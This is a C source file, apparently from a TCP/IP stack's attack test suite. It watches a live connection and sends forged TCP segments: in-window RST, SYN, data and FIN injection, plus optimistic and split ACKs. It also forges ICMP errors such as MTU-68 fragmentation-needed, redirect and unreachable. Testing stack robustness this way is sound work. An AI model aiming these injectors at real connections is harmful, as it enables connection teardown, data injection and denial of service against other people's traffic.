/*
 * Forged segments and ICMP errors of a connection that somebody else has: it is watched,
 * so that each forgery lies where its kind does the most harm, and not by accident where
 * nobody can tell it from the peer's own.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "tests/attack/raw.h"

#define NEAR 4096u    /* what the peer may send before a forgery arrives */
#define WINDOW 60000u /* every receiver offers more */
#define FAR 0x20000000u /* beyond any window */

/* What the two ends were last seen to say. */
struct watch {
	uint16_t port;
	bool up, down;        /* a segment of either was seen */
	uint32_t next;        /* sequence number that the peer sends next */
	uint32_t acked;       /* of the victim's */
	uint32_t victim_next;
	uint16_t window;
	uint8_t stamp[12];    /* timestamps option of the peer */
	bool stamp_on;
};

static void
stamp(struct watch *w, const struct raw_seg *s)
{
	if (s->options_len < 12 || s->options[0] != 1 || s->options[1] != 1 || s->options[2] != 8)
		return;
	memcpy(w->stamp, s->options, 12);
	w->stamp_on = true;
}

static void
see(struct raw *r, struct watch *w, const struct raw_seg *s)
{
	uint32_t end = s->seq + s->data_len + ((s->flags & (RAW_SYN | RAW_FIN)) ? 1u : 0u);

	if (s->from == r->self && s->from_port == w->port && s->to == r->victim) {
		if (w->up && (int32_t)(end - w->next) < 0)
			return;
		w->next = end;
		w->acked = s->ack;
		w->window = s->window;
		stamp(w, s);
		w->up = true;
	} else if (s->from == r->victim && s->to == r->self && s->to_port == w->port) {
		if (!w->down || (int32_t)(end - w->victim_next) > 0)
			w->victim_next = end;
		w->down = true;
	}
}

/* Everything that has come until now; at first, until both ends have spoken. A packet
 * socket does not hear itself. */
static bool
look(struct raw *r, struct watch *w)
{
	uint64_t end = raw_now_ms() + 20000;
	uint8_t buf[RAW_FRAME];
	struct raw_seg s;
	bool sent;

	for (;;) {
		bool ready = w->up && w->down;
		uint32_t n = raw_recv(r, buf, sizeof(buf), ready ? 0 : 100, &sent);

		if (n == 0 && (ready || raw_now_ms() > end))
			return ready;
		if (n > 0 && raw_read(buf, n, &s))
			see(r, w, &s);
	}
}

static struct raw_seg
segment(struct raw *r, const struct watch *w)
{
	struct raw_seg s = { .from = r->self, .to = r->victim, .from_port = w->port, .to_port = r->port,
		.seq = w->next, .ack = w->acked, .flags = RAW_ACK, .window = w->window };

	if (w->stamp_on) {
		s.options = w->stamp;
		s.options_len = 12;
	}
	return s;
}

static uint32_t
inside(struct raw *r, const struct watch *w)
{
	return w->next + NEAR + raw_below(r, WINDOW - NEAR);
}

static uint32_t
wrong_ack(struct raw *r, const struct watch *w)
{
	return w->victim_next + FAR + raw_below(r, 2 * FAR);
}

static const uint8_t junk[64] = "SSH-2.0-forged\r\n";

static void
forge_rst(struct raw *r, struct watch *w, struct raw_seg *s)
{
	s->flags = (uint8_t)(RAW_RST | (raw_below(r, 2) ? RAW_ACK : 0));
	s->seq = inside(r, w);
}

static void
forge_syn(struct raw *r, struct watch *w, struct raw_seg *s)
{
	s->flags = RAW_SYN;
	s->seq = raw_below(r, 2) ? inside(r, w) : (uint32_t)raw_random(r);
}

static void
forge_synack(struct raw *r, struct watch *w, struct raw_seg *s)
{
	forge_syn(r, w, s);
	s->flags = RAW_SYN | RAW_ACK;
}

static void
forge_data(struct raw *r, struct watch *w, struct raw_seg *s)
{
	s->seq = raw_below(r, 2) ? w->next : inside(r, w);
	s->ack = wrong_ack(r, w);
	s->data = junk;
	s->data_len = 1 + raw_below(r, sizeof(junk));
}

static void
forge_fin(struct raw *r, struct watch *w, struct raw_seg *s)
{
	forge_data(r, w, s);
	s->flags |= RAW_FIN;
	s->data_len = 0;
}

static void
forge_ack(struct raw *r, struct watch *w, struct raw_seg *s)
{
	s->seq = raw_below(r, 2) ? w->next : inside(r, w);
	s->ack = wrong_ack(r, w);
}

static void
forge_old(struct raw *r, struct watch *w, struct raw_seg *s)
{
	s->seq = w->next - 100000 - raw_below(r, FAR);
	s->data = junk;
	s->data_len = 1 + raw_below(r, sizeof(junk));
}

/* The three games of Savage and others, "TCP Congestion Control with a Misbehaving
 * Receiver", 1999. */
static void
forge_dup(struct raw *r, struct watch *w, struct raw_seg *s)
{
	(void)r;
	(void)w;
	(void)s;
}

static void
forge_split(struct raw *r, struct watch *w, struct raw_seg *s)
{
	s->ack = w->acked - raw_below(r, 1000);
}

static void
forge_optimistic(struct raw *r, struct watch *w, struct raw_seg *s)
{
	s->ack = w->victim_next + (64u << 20) + raw_below(r, 1u << 20);
}

static const struct {
	const char *name;
	void (*forge)(struct raw *r, struct watch *w, struct raw_seg *s);
} kinds[] = {
	{ "rst", forge_rst }, { "syn", forge_syn }, { "synack", forge_synack }, { "fin", forge_fin },
	{ "data", forge_data }, { "ack", forge_ack }, { "old", forge_old }, { "dup", forge_dup },
	{ "split", forge_split }, { "optimistic", forge_optimistic },
};

static int
watched(struct raw *r, struct watch *w, const char *port)
{
	w->port = (uint16_t)strtoul(port, NULL, 10);
	if (look(r, w))
		return 0;
	fprintf(stderr, "the connection is not seen\n");
	return 1;
}

int
attack_spoof(struct raw *r, char **arg)
{
	uint64_t count = strtoull(arg[1], NULL, 10);
	struct watch w = { 0 };
	size_t k = 0;

	while (k < sizeof(kinds) / sizeof(kinds[0]) && strcmp(kinds[k].name, arg[0]) != 0)
		k++;
	if (k == sizeof(kinds) / sizeof(kinds[0]) || watched(r, &w, arg[2]) != 0)
		return 1;
	for (uint64_t i = 0; i < count; i++) {
		struct raw_seg s = segment(r, &w);

		kinds[k].forge(r, &w, &s);
		/* A blind attacker has no timestamps; one on the path has. */
		if (i % 2 == 0)
			s.options_len = 0;
		raw_tcp(r, &s);
		if (r->count == 0 && !look(r, &w))
			return 1;
	}
	raw_flush(r);
	printf("sent %llu\n", (unsigned long long)r->sent);
	return 0;
}

/* ---- ICMP ---- */

static const struct {
	const char *name;
	uint8_t type, code;
	uint16_t mtu;
	bool stray;           /* quotes what is not in flight */
} errors[] = {
	{ "frag68", 3, 4, 68, true }, { "quench", 4, 0, 0, false }, { "redirect", 5, 1, 0, false },
	{ "proto", 3, 2, 0, false }, { "hard", 3, 3, 0, false }, { "denied", 3, 13, 0, false },
	{ "stray", 3, 3, 0, true },
};

static void
icmp(struct raw *r, const struct watch *w, size_t k)
{
	uint8_t *frame = raw_next(r);
	uint8_t *p = raw_ip(r, frame, (r->victim & ~0xffu) | 61u, r->victim, 1, 36);
	uint8_t quoted[RAW_ETH + 20];
	uint32_t seq = w->acked + raw_below(r, w->victim_next - w->acked + 1);

	memset(p, 0, 36);
	p[0] = errors[k].type;
	p[1] = errors[k].code;
	raw_put16(p + 6, errors[k].mtu);
	if (errors[k].type == 5)
		raw_put32(p + 4, (r->victim & ~0xffu) | 60u);
	raw_ip(r, quoted, r->victim, r->self, 6, 1480);
	memcpy(p + 8, quoted + RAW_ETH, 20);
	raw_put16(p + 28, r->port);
	raw_put16(p + 30, w->port);
	raw_put32(p + 32, errors[k].stray ? w->victim_next + FAR + raw_below(r, FAR) : seq);
	raw_put16(p + 2, raw_sum(p, 36, 0));
	raw_push(r, RAW_ETH + 56);
}

int
attack_icmp(struct raw *r, char **arg)
{
	uint64_t count = strtoull(arg[1], NULL, 10);
	struct watch w = { 0 };
	size_t k = 0;

	while (k < sizeof(errors) / sizeof(errors[0]) && strcmp(errors[k].name, arg[0]) != 0)
		k++;
	if (k == sizeof(errors) / sizeof(errors[0]) || watched(r, &w, arg[2]) != 0)
		return 1;
	for (uint64_t i = 0; i < count; i++) {
		icmp(r, &w, k);
		if (r->count == 0 && !look(r, &w))
			return 1;
	}
	raw_flush(r);
	printf("sent %llu\n", (unsigned long long)r->sent);
	return 0;
}
